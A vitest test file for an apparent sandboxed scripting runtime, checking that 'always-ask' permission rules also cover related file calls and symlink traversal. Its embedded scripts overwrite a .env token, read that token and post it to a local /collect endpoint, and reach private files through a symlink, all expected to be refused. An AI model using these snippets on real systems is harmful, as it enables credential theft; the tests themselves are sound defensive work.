// A rule on fs.write also asks about writeClassified, one on fs.read about readClassified, and
// one on fs.stat about reads: each does at least as much to the same file, by another call.
// Matched by category alone, an always-ask rule on writes to **/.env let writeClassified(".env",
// classify(…)) replace it with what the script chose, one on reads of **/.env let
// readClassified(".env") take the token and send it, as a classified body, to a host the script
// may reach, and one on stats of private/** let read() and children() return what is there,
// with no one asked.

import { readFileSync, symlinkSync } from "node:fs";
import { expect, it } from "vitest";
import { lit, unattended, withServer, worlds } from "./fixtures.js";

const world = worlds("tacit-kindred-actions-");

it("an always-ask rule on fs.write asks about writeClassified to the same file", async () => {
  const w = world();
  w.file(".env", "TOKEN=good\n");
  const config = w.config([{ action: "fs.write", tier: "always-ask", path: "**/.env" }]);
  const script = w.script(
    `requestFileSystem(".", (fs) => {\n` +
      `  try { fs.writeClassified(".env", classify("TOKEN=evil\\n")); println("wrote"); } catch (e) { println("refused:", String(e)); }\n` +
      `});\n`,
  );
  const run = await unattended(w, ["run", "--config", config, script]);
  // The bad thing: the file the rule asks about every time was replaced with no one asked.
  expect(readFileSync(w.at(".env"), "utf8"), run.all).toBe("TOKEN=good\n");
  expect(run.stdout, run.all).toContain(`refused: SecurityError: fs.writeClassified ${w.at(".env")}: refused: the policy requires a person's approval (always-ask)`);
  expect(run.stdout).not.toContain("wrote");
});

it("an always-ask rule on fs.read asks about readClassified of the same file; nothing of it is sent", () =>
  withServer(async (server) => {
    const w = world();
    w.file(".env", "TOKEN=CANARY-classified-kin\n");
    const config = w.config([{ action: "fs.read", tier: "always-ask", path: "**/.env" }], { libraryConfig: { networkPermissions: ["127.0.0.1:*"] } });
    const script = w.script(
      `try {\n` +
        `  const token = requestFileSystem(".", (fs) => fs.readClassified(".env"));\n` +
        `  requestNetwork(["127.0.0.1:*"], (net) => net.httpPostClassified(${lit(`${server.origin}/collect`)}, token));\n` +
        `  println("sent");\n` +
        `} catch (e) { println("refused:", String(e)); }\n`,
    );
    const run = await unattended(w, ["run", "--config", config, script]);
    // The bad thing: the file the rule asks about every time was read and sent with no one asked.
    expect(server.received, run.all).toEqual([]);
    expect(run.stdout, run.all).toContain(`refused: SecurityError: fs.readClassified ${w.at(".env")}: refused: the policy requires a person's approval (always-ask)`);
    expect(run.stdout).not.toContain("sent");
  }));

it("an always-ask rule on fs.stat asks about reading and listing what it covers", async () => {
  const w = world();
  w.file("private/secret.txt", "CANARY-kindred-stat\n");
  const config = w.config([{ action: "fs.stat", tier: "always-ask", path: "private/**" }]);
  const script = w.script(
    `requestFileSystem(".", (fs) => {\n` +
      `  try { println("read", fs.access("private/secret.txt").read()); } catch (e) { println("read refused:", String(e)); }\n` +
      `  try { println("listed", fs.access("private").children().map((c) => c.name + ":" + c.size).join(",")); } catch (e) { println("list refused:", String(e)); }\n` +
      `});\n`,
  );
  const run = await unattended(w, ["run", "--config", config, script]);
  // The bad things: what the rule asks about even learning of reached the script unasked.
  expect(run.stdout, run.all).not.toContain("CANARY-kindred-stat");
  expect(run.stdout, run.all).not.toContain("listed");
  expect(run.stdout, run.all).toContain(`read refused: SecurityError: fs.read ${w.at("private/secret.txt")}: refused: the policy requires a person's approval (always-ask)`);
  expect(run.stdout, run.all).toContain(`list refused: SecurityError: fs.read ${w.at("private")}: refused: the policy requires a person's approval (always-ask)`);
});

it.each([
  ["fs.stat", "private/**"],
  ["fs.open", "private"],
])("a search does not follow a link into what an always-ask rule on %s covers", async (action, rulePath) => {
  const w = world();
  w.file("private/secret.txt", "CANARY-kindred-search\n");
  w.file("public/readme.txt", "CANARY-public\n");
  symlinkSync("../private/secret.txt", w.at("public/flink"));
  const config = w.config([{ action, tier: "always-ask", path: rulePath }]);
  const script = w.script(`requestFileSystem(".", (fs) => println("found", JSON.stringify(fs.grepRecursive("public", "CANARY"))));\n`);
  const run = await unattended(w, ["run", "--config", config, script]);
  // The bad thing: the covered file's content reached the script through a link, unasked.
  expect(run.stdout, run.all).not.toContain("CANARY-kindred-search");
  expect(run.stdout, run.all).toContain("CANARY-public");
  expect(run.code, run.all).toBe(0);
});
